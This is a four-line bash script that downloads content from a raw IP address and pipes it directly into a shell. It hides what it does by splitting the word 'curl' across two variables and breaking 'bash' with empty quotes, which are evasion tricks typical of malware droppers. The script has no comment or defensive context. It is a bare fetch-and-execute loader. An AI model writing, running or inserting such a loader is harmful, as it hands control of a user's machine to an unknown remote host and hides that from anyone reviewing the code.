#!/bin/bash
a=cu; b=rl
u="http://91.92.242.30/x"
$a$b -s $u | ba''sh
